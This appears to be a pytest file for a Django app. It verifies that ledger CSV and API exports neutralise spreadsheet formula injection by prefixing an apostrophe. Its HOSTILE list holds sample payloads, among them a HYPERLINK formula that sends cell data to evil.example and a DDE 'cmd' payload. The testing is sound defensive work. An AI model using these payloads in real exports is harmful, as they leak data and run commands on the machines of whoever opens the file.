"""Issue 16, item 5: no cell of a CSV export opens as a formula in a spreadsheet."""

import csv
import io

import pytest
from django.apps import apps
from django.urls import reverse

from credits.models import LedgerEntry
from credits.roles import grant_admin_permissions
from studio_dashboard import csvsafe
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(text):
    assert csvsafe.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["a note", "", "1=1", "'=quoted", 35, -35, 0, None])
def test_other_cells_and_numbers_are_kept(value):
    assert csvsafe.neutralise(value) == value


def test_the_writer_neutralises_every_cell_of_a_row():
    line = csvsafe.writer().writerow(["=1+1", -3, "@x", "plain"])
    assert next(csv.reader(io.StringIO(line))) == ["'=1+1", "-3", "'@x", "plain"]


def _rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("url", [reverse("credits:ledger-csv"), reverse("api:ledger")])
def test_the_ledger_export_writes_no_live_formula(client, admin_user, django_user_model, url):
    grant_admin_permissions(apps)
    client.force_login(type(admin_user).objects.get(pk=admin_user.pk))
    plotter = make_user(django_user_model, "@plotter")
    for note in HOSTILE:
        LedgerEntry.objects.create(kind="adjustment", user=plotter, amount=-7, note=note)
    rows = _rows(client.get(url))
    notes = [row[9] for row in rows[1:]]
    assert notes == ["'" + note for note in HOSTILE]
    assert {row[3] for row in rows[1:]} == {"'@plotter"}
    # Amounts stay numbers a spreadsheet can add up.
    assert {row[8] for row in rows[1:]} == {"-7"}
    for row in rows:
        text_cells = row[:8] + row[9:]
        assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for cell in text_cells)
